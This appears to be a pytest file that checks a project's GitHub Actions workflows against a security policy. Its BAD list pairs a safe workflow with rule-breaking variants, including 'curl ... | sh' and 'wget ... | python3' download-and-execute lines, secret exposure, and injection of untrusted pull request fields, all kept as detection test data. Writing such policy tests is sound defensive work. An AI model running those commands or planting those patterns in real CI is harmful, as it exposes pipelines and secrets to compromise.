"""Our workflows keep the policy, and the policy sees what breaks it."""

from __future__ import annotations

import re

import pytest

from tests.workflows.policy import PINS, RULES, Workflow, violations
from tests.workflows.runner import ROOT, WORKFLOWS

PATHS = sorted(WORKFLOWS.glob("*.y*ml"))
# Every right that any job has. A line here is a decision.
RIGHTS = {
    "check.yml/check": {"contents": "read"},
    "check.yml/sarif": {"contents": "read", "security-events": "write"},
    "ci.yml/test": {"contents": "read"},
    "ci.yml/oldest": {"contents": "read"},
    "monthly.yml/remind": {"contents": "read", "issues": "write"},
    "site.yml/build": {"contents": "read", "deployments": "read", "pages": "read"},
    "site.yml/deploy": {"pages": "write", "id-token": "write"},
}
GOOD = """
name: Good
on: {pull_request: {}}
permissions: {}
concurrency: {group: good, cancel-in-progress: true}
jobs:
  good:
    runs-on: ubuntu-latest
    timeout-minutes: 5
    permissions:
      contents: read
    steps:
      - uses: actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1
        with:
          persist-credentials: false
      - run: make test
        env:
          SHA: ${{ github.sha }}
"""
CHECKOUT = "uses: actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1"
GUARDED = "    if: github.event.pull_request.head.repo.full_name == github.repository\n"
# Rule, what is replaced in GOOD, by what. Each breaks that rule and no other.
BAD = [
    ("event", "{pull_request: {}}", "pull_request_target"),
    ("event", "{pull_request: {}}", "[push, pull_request_target]"),
    ("event", "{pull_request: {}}", "{workflow_run: {workflows: [CI], types: [completed]}}"),
    ("event", "{pull_request: {}}", "issue_comment"),
    ("top_permissions", "permissions: {}\n", ""),
    ("top_permissions", "permissions: {}\n", "permissions: read-all\n"),
    ("top_permissions", "permissions: {}\n", "permissions: {contents: read}\n"),
    ("job_permissions", "    permissions:\n      contents: read\n", ""),
    ("job_permissions", "    permissions:\n      contents: read\n", "    permissions: write-all\n"),
    ("job_permissions", "      contents: read", "      contents: admin"),
    ("job_permissions", "    permissions:\n      contents: read", f"{GUARDED}    permissions:\n      contents: write"),
    (
        "job_permissions",
        "    permissions:\n      contents: read",
        f"{GUARDED}    permissions:\n      pull-requests: write",
    ),
    ("fork_writes", "      contents: read", "      security-events: write"),
    ("pins", CHECKOUT, "uses: actions/checkout@v7"),
    ("pins", CHECKOUT, "uses: actions/checkout@main"),
    ("pins", CHECKOUT, "uses: actions/checkout@3d3c42e"),
    ("pins", CHECKOUT, CHECKOUT.replace(" # v7.0.1", "")),
    ("pins", CHECKOUT, CHECKOUT.replace("v7.0.1", "v7.0.0")),
    ("pins", CHECKOUT, CHECKOUT.replace("@3", "@4")),
    ("pins", CHECKOUT, "uses: someone/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1"),
    ("pins", "- run: make test", "- uses: docker://alpine:3\n      - run: make test"),
    ("pins", "- run: make test", "- uses: ./.github/actions/own\n      - run: make test"),
    ("pins", "- run: make test", "- {uses: actions/setup-python@v1}\n      - run: make test"),
    ("images", "    steps:", "    container: alpine:3\n    steps:"),
    ("images", "    steps:", "    container: {image: alpine}\n    steps:"),
    ("images", "    steps:", "    services: {db: {image: postgres:16}}\n    steps:"),
    ("runners", "ubuntu-latest", "self-hosted"),
    ("runners", "ubuntu-latest", "[self-hosted, linux]"),
    ("runners", "ubuntu-latest", "${{ github.event.inputs.machine }}"),
    ("credentials", "        with:\n          persist-credentials: false\n", ""),
    ("credentials", "persist-credentials: false", "persist-credentials: true"),
    ("credentials", "persist-credentials: false", "persist-credentials: false\n          submodules: recursive"),
    ("credentials", "persist-credentials: false", "persist-credentials: false\n          lfs: true"),
    ("credentials", "persist-credentials: false", "persist-credentials: false\n          ref: refs/pull/7/merge"),
    (
        "credentials",
        "persist-credentials: false",
        "persist-credentials: false\n          ref: ${{ github.event.pull_request.head.sha }}",
    ),
    ("texts", "run: make test", "run: make ${{ github.sha }}"),
    ("texts", "run: make test", "run: |\n          make\n          echo ${{ env.X }}"),
    ("texts", "run: make test", "run: make\n        working-directory: ${{ github.run_id }}"),
    ("texts", "run: make test", "run: make\n        shell: ${{ matrix.shell }}"),
    ("strangers", "${{ github.sha }}", "${{ github.event.pull_request.title }}"),
    ("strangers", "${{ github.sha }}", "${{ github.event.issue.body }}"),
    ("strangers", "${{ github.sha }}", "${{ github.head_ref }}"),
    ("strangers", "${{ github.sha }}", "${{ github.event.pull_request.head.ref }}"),
    ("strangers", "${{ github.sha }}", "${{ github.event.head_commit.message }}"),
    ("strangers", "${{ github.sha }}", "${{ github.event.commits[0].author.name }}"),
    ("environment", "run: make test", "run: echo A=1 >> $GITHUB_ENV"),
    ("environment", "run: make test", 'run: echo bin >> "${GITHUB_PATH}"'),
    ("environment", "SHA: ${{ github.sha }}", "ACTIONS_ALLOW_UNSECURE_COMMANDS: true"),
    ("secrets", "${{ github.sha }}", "${{ secrets.DEPLOY }}"),
    ("secrets", "${{ github.sha }}", "${{ secrets['DEPLOY'] }}"),
    ("secrets", "${{ github.sha }}", "${{ toJSON(secrets) }}"),
    ("concurrency", "concurrency: {group: good, cancel-in-progress: true}\n", ""),
    ("concurrency", "{group: good, cancel-in-progress: true}", "good"),
    ("concurrency", "{group: good, cancel-in-progress: true}", "{group: good}"),
    ("timeouts", "    timeout-minutes: 5\n", ""),
    ("timeouts", "timeout-minutes: 5", "timeout-minutes: 360"),
    ("timeouts", "timeout-minutes: 5", "timeout-minutes: ${{ 5 }}"),
    ("downloads", "run: make test", "run: curl -sSL https://a.invalid/x | sh"),
    ("downloads", "run: make test", "run: wget -qO- https://a.invalid/x | python3"),
    ("downloads", "run: make test", "run: pip install chibo"),
    ("downloads", "run: make test", "run: npm install -g thing"),
    ("blind_eyes", "run: make test", "run: make test\n        continue-on-error: true"),
    ("blind_eyes", "run: make test", "run: make test || true"),
    ("blind_eyes", "run: make test", "run: make test # zizmor: ignore[artipacked]"),
]
# What is published has two rules more.
PUBLISHES = (
    GOOD.replace("{pull_request: {}}", "push").replace("contents: read", "pages: write").replace("true}", "false}")
)
BAD_PUBLISHING = [
    ("caches", "- run: make test", "- uses: actions/cache@v4\n      - run: make test", {"pins"}),
    ("caches", "persist-credentials: false", "persist-credentials: false\n          cache: pip", set()),
    ("concurrency", "cancel-in-progress: false", "cancel-in-progress: true", set()),
]


@pytest.mark.parametrize("path", PATHS, ids=lambda p: p.name)
def test_our_workflows_keep_the_policy(path) -> None:
    workflow = Workflow(path.read_text("utf-8"))
    assert {rule.__name__: found for rule in RULES if (found := list(rule(workflow)))} == {}


def test_every_right_is_a_decision() -> None:
    granted = {
        f"{path.name}/{name}": job["permissions"]
        for path in PATHS
        for name, job in Workflow(path.read_text("utf-8")).jobs.items()
    }
    assert granted == RIGHTS


def test_every_right_says_what_it_is_for() -> None:
    for path in PATHS:
        lines = re.findall(r"^      [a-z-]+: (?:read|write)\b.*$", path.read_text("utf-8"), re.MULTILINE)
        assert lines
        assert [line for line in lines if " # " not in line] == [], path


def test_every_pin_is_used() -> None:
    text = "".join(path.read_text("utf-8") for path in PATHS)
    assert [action for action in PINS if f"{action}@" not in text] == []


@pytest.mark.parametrize("name", ["check.yml", "site.yml", "monthly.yml"])
def test_lateness_is_read_from_the_whole_history(name: str) -> None:
    workflow = Workflow((WORKFLOWS / name).read_text("utf-8"))
    first = next(iter(workflow.jobs.values()))
    checkout = next(step for step in first["steps"] if str(step.get("uses", "")).startswith("actions/checkout@"))
    assert checkout["with"]["fetch-depth"] == "0"
    assert checkout["with"]["path"] == "store"


def test_steps_call_scripts_that_stand_in_the_repository() -> None:
    """What a step does stands in a script that other forges can call as well."""
    for name in ("check.yml", "site.yml", "monthly.yml"):
        runs = [step["run"] for _, step in Workflow((WORKFLOWS / name).read_text("utf-8")).steps if "run" in step]
        for run in runs:
            assert "\n" not in run.strip()
            assert (ROOT / run.split(" ")[0].removeprefix("store/")).is_file(), run


def test_the_internal_site_is_no_preview() -> None:
    text = (WORKFLOWS / "check.yml").read_text("utf-8")
    assert "internal" not in text
    assert "--profile public" in (ROOT / "tools/ci/preview").read_text("utf-8")
    assert "internal" not in (ROOT / "tools/ci/preview").read_text("utf-8").split("set -eu")[1]


def test_a_change_of_records_alone_does_not_test_the_program() -> None:
    assert Workflow((WORKFLOWS / "ci.yml").read_text("utf-8")).top["on"]["pull_request"] == {
        "paths-ignore": ["records/**"]
    }


def test_the_good_example_breaks_nothing() -> None:
    assert violations(GOOD) == set()
    assert violations(PUBLISHES) == set()


@pytest.mark.parametrize(("rule", "old", "new"), BAD)
def test_what_breaks_a_rule_is_seen(rule: str, old: str, new: str) -> None:
    assert GOOD.count(old) == 1
    assert violations(GOOD.replace(old, new)) == {rule}


@pytest.mark.parametrize(("rule", "old", "new", "also"), BAD_PUBLISHING)
def test_what_breaks_a_rule_of_publishing_is_seen(rule: str, old: str, new: str, also: set[str]) -> None:
    assert PUBLISHES.count(old) == 1
    assert violations(PUBLISHES.replace(old, new)) == {rule} | also


def test_every_rule_has_something_that_breaks_it() -> None:
    assert {rule.__name__ for rule in RULES} == {rule for rule, *_ in BAD} | {rule for rule, *_ in BAD_PUBLISHING}


@pytest.mark.parametrize("text", ["", "[]", "on: push", "on: push\njobs: {a: {uses: ./x.yml}}"])
def test_what_is_hardly_a_workflow_breaks_the_policy_too(text: str) -> None:
    assert "top_permissions" in violations(text)
